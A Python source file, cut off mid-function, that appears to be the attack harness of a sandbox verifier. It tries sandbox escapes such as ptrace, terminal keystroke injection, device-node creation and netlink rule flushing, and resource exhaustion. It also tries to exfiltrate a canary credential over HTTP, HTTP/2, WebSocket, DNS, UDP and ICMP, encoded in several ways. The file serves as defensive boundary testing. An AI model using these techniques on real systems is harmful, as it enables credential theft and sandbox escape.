"""What `postern verify` attempts: one function for each kind of attack, the same code inside a sandbox and outside of it.

`attack.py PLAN` runs a plan (JSON) and prints one line for each attempt: "@" and {"id", "outcome", "detail"}. An outcome is
one word, or a word and its argument: "made" when the attack did what it is for, the name of an errno, "refused REASON",
"skip CAUSE" when it could not be tried here. Everything is bounded: each attempt is a process of its own with a deadline.
"""

import base64
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import resource
import signal
import socket
import stat
import struct
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
DEADLINE_SECONDS = 15
# How long an answer may take: less, so that what stays silent is told from what does not end.
PATIENCE = 9
# The first byte of a frame that closes a WebSocket; what is said in one here is ASCII.
CLOSE = b"\x88"
# Who serves ends by itself, should nobody end it.
LONGEST_RUN_SECONDS = 600
LONGEST_SWAP_SECONDS = 60
# Processes that take processors: enough to get the most of them beside others. And how much more than a share counts as more, because shares are given
# out by the tenth of a second.
BUSY = 16
CLEARLY = 1.3
PLAN = {}
ssl = None

# System calls of x86_64 by number; names that other machines lack, or number otherwise, are skipped there.
NUMBERS = {
    "ioctl": 16, "socket": 41, "socketpair": 53, "clone": 56, "semget": 64, "ptrace": 101, "syslog": 103,
    "personality": 135, "ustat": 136, "modify_ldt": 154, "pivot_root": 155, "adjtimex": 159, "chroot": 161, "acct": 163,
    "settimeofday": 164, "mount": 165, "umount2": 166, "swapon": 167, "swapoff": 168, "reboot": 169, "sethostname": 170,
    "setdomainname": 171, "iopl": 172, "ioperm": 173, "init_module": 175, "delete_module": 176, "quotactl": 179,
    "nfsservctl": 180, "lookup_dcookie": 212, "clock_settime": 227, "mbind": 237, "set_mempolicy": 238,
    "kexec_load": 246, "add_key": 248, "request_key": 249, "keyctl": 250, "migrate_pages": 256, "unshare": 272,
    "vmsplice": 278, "move_pages": 279, "perf_event_open": 298, "fanotify_init": 300, "fanotify_mark": 301,
    "open_by_handle_at": 304, "clock_adjtime": 305, "setns": 308, "process_vm_readv": 310, "process_vm_writev": 311,
    "kcmp": 312, "finit_module": 313, "kexec_file_load": 320, "bpf": 321, "userfaultfd": 323, "pidfd_send_signal": 424,
    "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428, "move_mount": 429,
    "fsopen": 430, "fsconfig": 431, "fsmount": 432, "fspick": 433, "pidfd_open": 434, "clone3": 435, "pidfd_getfd": 438,
    "process_madvise": 440, "mount_setattr": 442, "quotactl_fd": 443, "memfd_secret": 447, "process_mrelease": 448,
    "statmount": 457, "listmount": 458, "vhangup": 153, "x32_getpid": 0x40000027, "unknown": 1000,
}


def name_of(number):
    return errno.errorcode.get(number, f"E{number}")


def attempt(function):
    """Runs it and names how it ended."""
    try:
        return function()
    except socket.gaierror:
        return "unresolved"
    except OSError as error:
        return name_of(error.errno) if error.errno else f"failed {type(error).__name__}"


# ---- system calls ------------------------------------------------------------------------------------------------


def syscall(name, *arguments):
    """Makes one call by number. A text is a pointer to it, "buffer" to a zeroed page."""
    if platform.machine() != "x86_64":
        return f"skip not here: system calls are known by number for x86_64, not {platform.machine()}"
    page = ctypes.create_string_buffer(4096)
    kept = []

    def value(argument):
        if argument == "buffer":
            return ctypes.c_void_p(ctypes.addressof(page))
        if isinstance(argument, str):
            kept.append(ctypes.create_string_buffer(argument.encode()))
            return ctypes.c_void_p(ctypes.addressof(kept[-1]))
        return ctypes.c_long(argument)

    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *[value(argument) for argument in arguments])
    if name == "clone" and result == 0:
        os._exit(0)
    return "made" if result >= 0 else name_of(ctypes.get_errno())


def trace_child():
    """Traces a process of its own, as a debugger would."""
    child = os.fork()
    if child == 0:
        signal.pause()
    try:
        return syscall("ptrace", 16, child, 0, 0)
    finally:
        os.kill(child, signal.SIGKILL)


def type_into_terminal():
    """Types into its own terminal, as whoever shares one with a person could."""
    leader, follower = os.openpty()
    if os.fork() == 0:
        os.setsid()
        try:
            fcntl.ioctl(follower, 0x540E, 0)
            fcntl.ioctl(follower, 0x5412, b"x")
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    code = os.waitstatus_to_exitcode(os.wait()[1])
    return "made" if code == 0 else name_of(code)


# ---- files -------------------------------------------------------------------------------------------------------


def read(path):
    """Reads the beginning of a file."""
    def run():
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        return "made" if os.read(descriptor, 64) else "empty"
    return attempt(run)


def write(path):
    """Opens a file for writing, making it where it is not."""
    def run():
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_NONBLOCK, 0o600))
        return "made"
    return attempt(run)


def write_value(path, value):
    """Writes a value to a setting."""
    def run():
        descriptor = os.open(path, os.O_WRONLY)
        os.write(descriptor, value.encode())
        return "made"
    return attempt(run)


def look(path):
    """Whether something is at the path, other than an empty cover."""
    def run():
        about = os.stat(path)
        if stat.S_ISDIR(about.st_mode):
            return "made" if os.listdir(path) else "empty"
        return "made"
    return attempt(run)


def link_target(path):
    """Reads where a link of /proc leads."""
    return attempt(lambda: "made" if os.readlink(path) else "empty")


def remove(path):
    """Removes a file or an empty directory."""
    return attempt(lambda: (os.rmdir(path) if os.path.isdir(path) else os.unlink(path), "made")[1])


def mode(path, bits):
    """Changes the mode of a file."""
    return attempt(lambda: (os.chmod(path, bits), "made")[1])


def device(path):
    """Makes the device node of the first disk and of the kernel's memory."""
    return attempt(lambda: (os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 1)), "made")[1])


def set_user_id():
    """Whether any file system it sees would honour a set-user-id program."""
    with open("/proc/self/mountinfo") as mounts:
        return "made" if any("nosuid" not in line.split(" ")[5] for line in mounts) else "none"


def device_mounts():
    """Whether any file system it sees, but /dev, would let a device node be opened."""
    with open("/proc/self/mountinfo") as mounts:
        lines = [line.split(" ") for line in mounts]
    return "made" if any("nodev" not in line[5] for line in lines if not line[4].startswith("/dev")) else "none"


def devices(lent):
    """Whether there are devices besides those that every sandbox has, and those that its zone lends."""
    expected = {"null", "zero", "full", "random", "urandom", "tty", *lent.split()}
    for place, directories, files in os.walk("/dev"):
        if place == "/dev":
            # A terminal of its own, or none.
            directories[:] = [name for name in directories if name != "pts"]
        for name in files:
            path = os.path.join(place, name)
            about = os.lstat(path)
            node = stat.S_ISCHR(about.st_mode) or stat.S_ISBLK(about.st_mode)
            if node and os.path.relpath(path, "/dev") not in expected:
                return "made"
    return "none"


def hears_of_mounts():
    """Whether mounts made outside would appear here."""
    with open("/proc/self/mountinfo") as mounts:
        return "made" if any("shared:" in line or "master:" in line for line in mounts) else "none"


def search(needle_head, needle_tail, *places):
    """Looks for a text in files and directories, in its own environment and memory. The text is never whole in this program."""
    needle = (needle_head + needle_tail).encode()
    for place in places:
        if place == "environment":
            texts = [f"{key}={value}".encode() for key, value in os.environ.items()]
        else:
            texts = files_below(place)
        if any(needle in text for text in texts):
            return "made"
    return "none"


def shown(variable):
    """Whether the environment has something for a variable."""
    return "made" if os.environ.get(variable) else "hidden"


def inherited(names):
    """Whether the environment has one of these variables, which somebody else's has."""
    if not names:
        return "skip not here: the environment of this command has no variable of its own"
    return "made" if any(name in os.environ for name in names.split(" ")) else "none"


def files_below(place):
    if os.path.isfile(place):
        yield from contents(place)
    for directory, _, names in os.walk(place):
        for name in names:
            yield from contents(os.path.join(directory, name))


def contents(path):
    try:
        if stat.S_ISREG(os.lstat(path).st_mode) or path.startswith("/proc/"):
            with open(path, "rb") as file:
                yield file.read(1 << 20)
    except OSError:
        return


def capture(path):
    """What a file says, for the judge."""
    with open(path, "rb") as file:
        return "made", file.read(4096)


# ---- processes ---------------------------------------------------------------------------------------------------


def find_process(marker):
    """Looks for a process by a word of its command line."""
    mine = os.getpid()
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != mine:
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as line:
                    words = line.read().split(b"\0")
                if marker.encode() in words:
                    return "made"
            except OSError:
                pass
    return "none"


def send_signal(pid, number):
    """Sends a signal; 0 asks only whether it could."""
    return attempt(lambda: (os.kill(int(pid), number), "made")[1])


def signal_by_descriptor(pid):
    """The same by a process descriptor."""
    def run():
        descriptor = os.pidfd_open(int(pid))
        signal.pidfd_send_signal(descriptor, 0)
        return "made"
    return attempt(run)


def capability(field):
    """Whether a set of capabilities holds any."""
    with open("/proc/self/status") as status:
        value = next(line.split()[1] for line in status if line.startswith(field + ":"))
    return "made" if int(value, 16) else "none"


def new_privileges():
    """Whether a program could give it more than it has."""
    return "made" if LIBC.prctl(39, 0, 0, 0, 0) == 0 else "none"


def real_user():
    """Whether it is, outside, the user that runs the perimeter."""
    inside, outside, _ = user_map()
    return "made" if outside == PLAN["outer_uid"] or (inside == outside and int(outside) == os.getuid()) else "none"


def kernel_user(number):
    """Whether it is, outside, the user of this number."""
    return "made" if user_map()[1] == number else "none"


def machine_users():
    """Whether the machine's users are anybody here: more than its own is mapped, so a number of the host's means who it means there."""
    return "made" if int(user_map()[2]) > 1 else "none"


def user_map():
    with open("/proc/self/uid_map") as mapping:
        return mapping.readline().split()


def identity(path, own):
    """Whether a view (host name, control groups) is the machine's."""
    with open(path) as file:
        return "made" if file.read().strip() == own else "none"


def control_groups():
    """Whether its own place in the machine's control groups shows."""
    with open("/proc/self/cgroup") as groups:
        paths = [line.rstrip("\n").split(":", 2)[2] for line in groups]
    return "none" if all(path == "/" for path in paths) else "made"


def machine_clocks():
    """Sees the clocks that count since the machine's start: those of the first time namespace, whose number is fixed."""
    return "made" if os.readlink("/proc/self/ns/time") == "time:[4026531834]" else "none"


def shared_memory(key):
    """Finds a System V segment by its key."""
    ctypes.set_errno(0)
    return "made" if LIBC.shmget(int(key), 0, 0) >= 0 else name_of(ctypes.get_errno())


def real_time():
    """Takes a real-time priority."""
    return attempt(lambda: (os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)), "made")[1])


def raise_limit(name, value):
    """Sets the hard limit of a resource to this."""
    try:
        resource.setrlimit(getattr(resource, name), (value, value))
        return "made"
    except (OSError, ValueError):
        return "EPERM"


# ---- resources ---------------------------------------------------------------------------------------------------


def take_memory(mebibytes, sharing, hold_seconds=0):
    """Takes that much memory, touches all of it, and holds it for a while."""
    child = os.fork()
    if child == 0:
        try:
            held = mmap.mmap(-1, mebibytes << 20, flags=getattr(mmap, sharing) | mmap.MAP_ANONYMOUS)
            for offset in range(0, mebibytes << 20, 4096):
                held[offset] = 1
            time.sleep(hold_seconds)
            os._exit(0)
        except (MemoryError, OSError):
            os._exit(1)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return "made" if code == 0 else "stopped"


def take_processes(count):
    """Starts that many processes at one time, small ones, so that it is their number that counts."""
    children = []
    try:
        for _ in range(count):
            children.append(os.posix_spawn("/bin/sleep", ["sleep", "20"], {}))
        return "made"
    except OSError as error:
        return name_of(error.errno)
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
        for child in children:
            os.waitpid(child, 0)


def take_processors(share, seconds):
    """Keeps several processes busy, a second at a time, until they got clearly more than that share of the processors, or the time is over."""
    for _ in range(seconds):
        before, began = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
        children = []
        for _ in range(BUSY):
            child = os.fork()
            if child == 0:
                # A session of its own: the scheduler shares between them, where it groups at all.
                os.setsid()
                while time.monotonic() - began < 1:
                    pass
                os._exit(0)
            children.append(child)
        for child in children:
            os.waitpid(child, 0)
        after, took = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic() - began
        used = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
        if used / took > float(share) * CLEARLY:
            return "made"
    return "held back"


def take_file(path, mebibytes):
    """Makes one file of that size."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    def run():
        descriptor = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        try:
            os.ftruncate(descriptor, mebibytes << 20)
            return "made"
        finally:
            os.close(descriptor)
            os.unlink(path)
    return attempt(run)


def take_space(path, mebibytes):
    """Takes that much space of a file system."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    def run():
        descriptor = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
        try:
            os.posix_fallocate(descriptor, 0, mebibytes << 20)
            return "made"
        finally:
            os.close(descriptor)
            os.unlink(path)
    return attempt(run)


def take_files(directory, mebibytes, count, hold_seconds):
    """Takes that much space of a directory's file system with several files, and holds it for a while."""
    paths = [os.path.join(directory, f"taken-{number}") for number in range(count)]

    def run():
        for path in paths:
            with open(path, "wb") as file:
                os.posix_fallocate(file.fileno(), 0, mebibytes << 20)
        time.sleep(hold_seconds)
        return "made"
    try:
        return attempt(run)
    finally:
        for path in filter(os.path.exists, paths):
            os.unlink(path)


def print_into(path, mebibytes):
    """Has a command print that much into a file."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    def run():
        descriptor = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
        try:
            for _ in range(mebibytes):
                os.write(descriptor, b"x" * (1 << 20))
            return "made"
        finally:
            os.close(descriptor)
            if path != "/dev/null":
                os.unlink(path)
    return attempt(run)


def lock_memory(mebibytes):
    """Locks that much memory so that it cannot be swapped out."""
    held = mmap.mmap(-1, mebibytes << 20)
    address = ctypes.addressof(ctypes.c_char.from_buffer(held))
    ctypes.set_errno(0)
    result = LIBC.mlock(ctypes.c_void_p(address), ctypes.c_size_t(mebibytes << 20))
    return "made" if result == 0 else name_of(ctypes.get_errno())


def open_files(count):
    """Opens that many files."""
    opened = []
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    try:
        for _ in range(count):
            opened.append(os.dup(0))
        return "made"
    except OSError as error:
        return name_of(error.errno)


def count_output(count):
    """Writes that much and counts what arrived."""
    out, into = os.pipe()
    if os.fork() == 0:
        os.close(out)
        left = count
        while left:
            left -= os.write(into, b"x" * min(left, 65536))
        os._exit(0)
    os.close(into)
    arrived = 0
    while more := os.read(out, 65536):
        arrived += len(more)
    return "made" if arrived == count else "bounded"


def core_file():
    """Leaves a core file."""
    # At one byte the kernel makes none, and feeds no helper of the host either.
    return "made" if resource.getrlimit(resource.RLIMIT_CORE)[1] not in (0, 1) else "none"


# ---- sockets -----------------------------------------------------------------------------------------------------


def open_socket(family, kind, protocol):
    """Opens a socket of a family."""
    def run():
        socket.socket(family, kind, protocol).close()
        return "made"
    return attempt(run)


def abstract_socket(name):
    """Connects to an abstract Unix socket."""
    return attempt(lambda: (socket.socket(socket.AF_UNIX).connect("\0" + name), "made")[1])


def path_socket(path):
    """Connects to a Unix socket in the file system, through its directory: an address takes a hundred bytes of a path."""
    def run():
        directory = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
        socket.socket(socket.AF_UNIX).connect(f"/proc/self/fd/{directory}/{os.path.basename(path)}")
        return "made"
    return attempt(run)


def own_address(address):
    """Gives its network another address, as a rule that lets it out would need."""
    return attempt(lambda: (give_address(address), "made")[1])


def flush_rules():
    """Deletes every packet rule."""
    def run():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as rules:
            begin = struct.pack("=IHHII", 20, 16, 1, 1, 0) + struct.pack("=BBH", 0, 0, socket.htons(10))
            delete = struct.pack("=IHHII", 20, (10 << 8) | 2, 5, 2, 0) + struct.pack("=BBH", 0, 0, 0)
            end = struct.pack("=IHHII", 20, 17, 1, 3, 0) + struct.pack("=BBH", 0, 0, socket.htons(10))
            rules.send(begin + delete + end)
            rules.settimeout(2)
            code = struct.unpack_from("=i", rules.recv(4096), 16)[0]
            return "made" if code == 0 else name_of(-code)
    return attempt(run)


def routes():
    """Adds a route over netlink."""
    def run():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as routing:
            body = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 254, 4, 254, 2, 0)
            body += struct.pack("=HH4s", 8, 1, socket.inet_aton("203.0.113.99"))
            body += struct.pack("=HHI", 8, 4, 1)
            routing.send(struct.pack("=IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
            routing.settimeout(2)
            code = struct.unpack_from("=i", routing.recv(4096), 16)[0]
            return "made" if code == 0 else name_of(-code)
    return attempt(run)


# ---- the network -------------------------------------------------------------------------------------------------


def give_address(address):
    """Brings the loopback of this network up and gives it an address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        if ":" in address:
            request = socket.inet_pton(socket.AF_INET6, address) + struct.pack("=Ii", 128, socket.if_nametoindex("lo"))
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as six:
                fcntl.ioctl(control, 0x8914, struct.pack("=16sH22x", b"lo", 0x49))
                fcntl.ioctl(six, 0x8916, request)
        else:
            name = struct.pack("=16s", b"lo" if address == "127.0.0.1" else b"lo:1")
            fcntl.ioctl(control, 0x8916, name + struct.pack("=HH4s16x", socket.AF_INET, 0, socket.inet_aton(address)))
            fcntl.ioctl(control, 0x8914, struct.pack("=16sH22x", b"lo", 0x49))


def answer(address, port):
    """Outside the boundary, in a network of its own: somebody is at that address and port, and answers."""
    if not PLAN.get("namespace"):
        return
    give_address(address)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    listener, datagrams = socket.socket(family), socket.socket(family, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    for bound in (listener, datagrams):
        settled(lambda: bound.bind((address, port)))
    listener.listen()

    def streams():
        while True:
            stream, _ = listener.accept()
            stream.settimeout(2)
            stream.recv(4096)
            stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\ncollected")
            stream.close()

    def packets():
        while True:
            data, peer = datagrams.recvfrom(4096)
            datagrams.sendto(data[:2] + b"collected", peer)

    for serve in (streams, packets):
        threading.Thread(target=serve, daemon=True).start()


def settled(bind):
    """A new address takes the kernel a moment."""
    for _ in range(200):
        try:
            return bind()
        except OSError as error:
            if error.errno != errno.EADDRNOTAVAIL:
                raise
            time.sleep(0.01)
    return bind()


def at(host):
    """Where a name leads in this run: outside, the plan says."""
    if PLAN.get("namespace"):
        return host if host.replace(".", "").isdigit() or ":" in host else "203.0.113.77"
    return host


def outcome_of(data):
    """What an answer says: a refusal of the boundary, or somebody's own words."""
    head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").lower()
    for line in head.split("\r\n"):
        if line.startswith("postern-reason:"):
            return "refused " + line.split(":", 1)[1].strip()
    if b"collected" in data:
        return "made"
    words = head.split(" ")
    return f"status {words[1]}" if head.startswith("http/") and len(words) > 1 else ("closed" if not data else "answered")


def received(stream):
    data = b""
    try:
        while len(data) < 1 << 20:
            more = stream.recv(65536)
            if not more:
                break
            data += more
            if complete(data):
                break
    except (TimeoutError, OSError):
        pass
    return data


def complete(data):
    """Whether an answer is whole, so that nobody waits for a connection that stays open."""
    head, end, body = data.partition(b"\r\n\r\n")
    lower = head.lower()
    if not end or not lower.startswith(b"http/"):
        return False
    for line in lower.split(b"\r\n"):
        if line.startswith(b"content-length:"):
            return len(body) >= int(line.split(b":")[1])
    return b"transfer-encoding: chunked" in lower and body.endswith(b"0\r\n\r\n")


def tcp(host, port, first="GET / HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"):
    """Connects, says something, and listens."""
    host, port = at(host), int(port)
    answer(host, port)
    def run():
        with socket.create_connection((host, port), timeout=PATIENCE) as stream:
            stream.settimeout(PATIENCE)
            stream.sendall(filled(first.replace("{host}", f"[{host}]" if ":" in host else host)).encode("latin-1"))
            return outcome_of(received(stream))
    return attempt(run)


def udp(host, port, payload="stolen"):
    """Sends a datagram and waits for an answer."""
    host, port = at(host), int(port)
    answer(host, port)
    def run():
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as packets:
            packets.settimeout(2)
            packets.connect((host, port))
            packets.send(payload.encode("latin-1"))
            return "made" if b"collected" in packets.recv(4096) else "answered"
    return attempt(run)


def ping(host):
    """Sends an ICMP echo."""
    host = at(host)
    answer(host, 9)
    if PLAN.get("namespace"):
        write_value("/proc/sys/net/ipv4/ping_group_range", "0 0")
    def run():
        six = ":" in host
        kind = socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP
        with socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_DGRAM, kind) as echo:
            echo.settimeout(2)
            echo.sendto(struct.pack("!BBHHH", 128 if six else 8, 0, 0, 1, 1) + b"stolen", (host, 0))
            echo.recv(4096)
            return "made"
    return attempt(run)


def dns(name, kind, server="127.0.0.1", over="udp", port=53):
    """Asks a name server."""
    port = int(port)
    answer(server, port)
    question = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    def run():
        if over == "tcp":
            with socket.create_connection((server, port), timeout=PATIENCE) as stream:
                stream.settimeout(PATIENCE)
                stream.sendall(struct.pack("!H", len(question)) + question)
                data = received_dns(stream)
        else:
            with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as packets:
                packets.settimeout(3)
                packets.connect((server, port))
                packets.send(question)
                data = packets.recv(4096)
        return outcome_of_name(data)
    return attempt(run)


def received_dns(stream):
    data = stream.recv(65536)
    return data if b"collected" in data else data[2:]


def outcome_of_name(data):
    if b"collected" in data:
        return "made"
    flags, _, answers = struct.unpack_from("!HHH", data, 2)
    if flags & 15:
        return f"code {flags & 15}"
    if not answers:
        return "empty"
    return "synthetic" if b"\xc6\x12" in data[-16:] or b"\xc6\x13" in data[-16:] or b"\xfd" in data[-17:] else "answered"


def key():
    """The credential as this side of the boundary has it: a placeholder inside, the canary outside."""
    return os.environ.get(PLAN["variable"], "")


def repository():
    """What git sends to the session's repository: with the placeholder inside, with the canary outside."""
    _, _, pair = os.environ.get("GIT_CONFIG_VALUE_0", "").rpartition(" ")
    return pair or base64.b64encode(f"x-access-token:{key()}".encode()).decode()


def filled(text):
    value = key()
    replaced = {
        "{key}": value,
        "{key_base64}": base64.b64encode(value.encode()).decode(),
        "{key_url}": "".join(f"%{byte:02X}" for byte in value.encode()),
        "{key_hex}": value.encode().hex(),
        "{key_upper}": value.upper(),
        "{basic}": base64.b64encode(f"reporting:{value}".encode()).decode(),
        "{basic_user}": base64.b64encode(f"{value}:reporting".encode()).decode(),
        "{repository_basic}": repository(),
        "{repository}": base64.b64decode(repository()).decode().rpartition(":")[2],
        "{neighbour}": PLAN.get("neighbour", ""),
        "{real_basic}": base64.b64encode(f"reporting:{PLAN.get('real', '')[::-1]}".encode()).decode(),
        "{real}": PLAN.get("real", "")[::-1],
        "{foreign}": "attackers-own-key-0123456789",
        "{side}": PLAN["side"],
    }
    for mark, meant in replaced.items():
        text = text.replace(mark, meant)
    return text


def connected(host, port):
    """A connection to a host: through the boundary by name, outside straight to whoever plays it."""
    known = PLAN.get("hosts", {}).get(f"{host}:{port}") or PLAN.get("hosts", {}).get(host)
    if known:
        address, number = known.rsplit(":", 1)
        return socket.create_connection((address, int(number)), timeout=PATIENCE)
    return socket.create_connection((host, port), timeout=PATIENCE)


def trust():
    """Inside the session's own authority vouches for every host; outside whoever plays a host is taken at its word."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    if PLAN.get("hosts"):
        context.verify_mode = ssl.CERT_NONE
        context.load_cert_chain(PLAN["certificate"])
    else:
        context.load_verify_locations(cafile=os.environ.get("NODE_EXTRA_CA_CERTS"))
    return context


def exchange(scheme, host, port, head, body="", sni=None, alpn=None):
    """One request, to the byte, and its answer."""
    content = filled(body).encode("latin-1")
    head = filled(head).replace("{length}", str(len(content))).replace("\n", "\r\n")
    request = head.encode("latin-1") + b"\r\n\r\n" + content
    stream = connected(host, int(port))
    try:
        if scheme == "https":
            context = trust()
            if alpn:
                context.set_alpn_protocols([alpn])
            stream = context.wrap_socket(stream, server_hostname=None if sni == "" else (sni or host))
        stream.settimeout(PATIENCE)
        stream.sendall(request)
        return received(stream)
    finally:
        stream.close()


def http(scheme, host, port, head, body="", sni=None, alpn=None):
    """Sends one request; "made" when an upstream answered it and took the credential."""
    global ssl
    import ssl as found
    ssl = found

    def run():
        try:
            data = exchange(scheme, host, port, head, body, sni, alpn)
        except ssl.SSLError as error:
            return f"tls {error.reason}", b""
        outcome = outcome_of(data)
        return ("made" if outcome in PLAN["taken"] else outcome), whole(data)
    return attempt(run)


def http2(host, *streams):
    """Requests on one connection of HTTP/2, each a list of fields; "made" when an upstream answered the last and took the credential. Whoever plays a host
    outside takes HTTP/2 from who begins with it, unasked."""
    global ssl
    import ssl as found
    ssl = found

    def run():
        context = trust()
        if not PLAN.get("hosts"):
            context.set_alpn_protocols(["h2"])
        try:
            with context.wrap_socket(connected(host, 443), server_hostname=host) as stream:
                stream.settimeout(PATIENCE)
                stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
                for number, fields in enumerate(streams):
                    stream.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, b"".join(map(field, fields))))
                    outcome, data = answered(stream, 2 * number + 1)
                return ("made" if outcome in PLAN["taken"] else outcome), data
        except ssl.SSLError as error:
            return f"tls {error.reason}", b""
    return attempt(run)


DATA, HEADERS, RESET, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, ACKNOWLEDGED, END_HEADERS = 1, 1, 4
# The fields that have a number of their own, and how digits are written where a value is compressed.
NUMBERED = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
DIGITS = {"00000": 0, "00001": 1, "00010": 2, "011001": 3, "011010": 4, "011011": 5, "011100": 6, "011101": 7, "011110": 8, "011111": 9}


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def field(pair):
    """A field that is neither indexed nor compressed."""
    name, value = (filled(part).encode("latin-1") for part in pair)
    return b"\0" + length_of(name) + name + length_of(value) + value


def length_of(text):
    return bytes([len(text)]) if len(text) < 127 else bytes([127, len(text) - 127])


def answered(stream, number):
    """What came back on one stream: its outcome, and its content behind a head."""
    content, status, left = b"", None, b""
    try:
        while True:
            while len(left) < 9 or len(left) < 9 + int.from_bytes(left[:3], "big"):
                more = stream.recv(65536)
                if not more:
                    return ("closed" if status is None else outcome_of_stream(status, content)), content
                left += more
            length, kind, flags, of = int.from_bytes(left[:3], "big"), left[3], left[4], int.from_bytes(left[5:9], "big")
            payload, left = left[9:9 + length], left[9 + length:]
            if kind == SETTINGS and not flags & ACKNOWLEDGED:
                stream.sendall(frame(SETTINGS, ACKNOWLEDGED, 0))
            elif kind == GOAWAY or (kind == RESET and of == number):
                return ("reset" if status is None else outcome_of_stream(status, content)), content
            elif of == number and kind in (HEADERS, DATA):
                status = status or (status_of(payload) if kind == HEADERS else None)
                content += payload if kind == DATA else b""
                if flags & END_STREAM:
                    return outcome_of_stream(status, content), b"HTTP/2\r\n\r\n" + content
    except TimeoutError:
        return "silent", content


def status_of(fields):
    """The status, which is the first field of an answer, as hyper writes it."""
    while fields and fields[0] >> 5 == 1:
        fields = fields[1:]
    first = fields[0]
    if first & 128:
        return NUMBERED.get(first & 127)
    size, value = fields[1] & 127, fields[2:2 + (fields[1] & 127)]
    if not fields[1] & 128:
        return int(value[:size])
    bits, digits = "".join(f"{byte:08b}" for byte in value), ""
    while len(digits) < 3:
        known = next((code for code in DIGITS if bits.startswith(code)), None)
        if known is None:
            return None
        digits, bits = digits + str(DIGITS[known]), bits[len(known):]
    return int(digits)


def outcome_of_stream(status, content):
    reason = content.partition(b'"reason":"')[2].partition(b'"')[0]
    return f"refused {reason.decode('latin-1')}" if reason else f"status {status}"


def websocket(host, path, text):
    """Opens a WebSocket and, when it stands, sends one message; "made" when an upstream took it."""
    global ssl
    import ssl as found
    ssl = found

    def run():
        with trust().wrap_socket(connected(host, 443), server_hostname=host) as stream:
            stream.settimeout(PATIENCE)
            upgrade = "upgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ=="
            stream.sendall(f"GET {path} HTTP/1.1\r\nhost: {host}\r\n{upgrade}\r\n\r\n".encode())
            head = until(stream, b"\r\n\r\n")
            if b" 101 " not in head:
                return outcome_of(head)
            said = filled(text).encode()
            length = bytes([0x80 | len(said)]) if len(said) < 126 else b"\xfe" + struct.pack("!H", len(said))
            # A mask of zeros leaves the text as it is.
            stream.sendall(b"\x81" + length + bytes(4) + said)
            answer = heard(stream)
            reason = answer.partition(b"postern: ")[2].decode("latin-1")
            return f"refused {reason}" if reason else outcome_of(answer)
    return attempt(run)


def heard(stream):
    """What comes on a WebSocket up to the word that it was taken, the frame that closes it, or its end."""
    data = b""
    try:
        while more := stream.recv(65536):
            data += more
            if complete(data) or b"collected" in data:
                break
            start = data.find(CLOSE)
            if 0 <= start < len(data) - 1 and len(data) >= start + 2 + data[start + 1]:
                break
    except (TimeoutError, OSError):
        pass
    return data


def until(stream, end):
    data = b""
    while end not in data:
        more = stream.recv(1)
        if not more:
            break
        data += more
    return data


def whole(data):
    """An answer with its chunks put together."""
    head, _, body = data.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" not in head.lower():
        return data
    joined = b""
    while body:
        size, _, body = body.partition(b"\r\n")
        length = int(size or b"0", 16)
        joined, body = joined + body[:length], body[length + 2:]
        if not length:
            break
    return head + b"\r\n\r\n" + joined


def by_name(name, port, times):
